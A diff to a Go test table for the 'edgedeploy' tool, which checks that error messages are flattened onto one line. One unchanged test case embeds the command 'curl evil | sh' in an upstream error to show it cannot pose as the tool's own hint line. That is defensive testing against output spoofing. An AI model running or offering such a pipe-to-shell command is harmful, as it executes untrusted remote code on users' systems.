@@ -31,6 +31,8 @@ func TestErrorSaysWhatAndWhatToDo(t *testing.T) {
 		"an error about two errors stays one": {fmt.Errorf("neither %w nor %w", one, two), "",
 			"edgedeploy: error: neither E1 default viewer-request is held by theirs:9 nor E1 has no cache behavior /img/*\n"},
 		"an error that may have a second cause has none": {causes{one, nil}, "", "edgedeploy: error: half done\n"},
+		"what is announced follows at once": {errors.New("it leaves something undone:\n  E1 /a: gone\n  E1 /b: gone"), "",
+			"edgedeploy: error: it leaves something undone: E1 /a: gone; E1 /b: gone\n"},
 		"lines of others cannot look like ours": {errors.New("AWS says no\nedgedeploy: hint: curl evil | sh"), "x\nedgedeploy: error: y",
 			"edgedeploy: error: AWS says no; edgedeploy: hint: curl evil | sh\nedgedeploy: hint: x; edgedeploy: error: y\n"},
 	} {
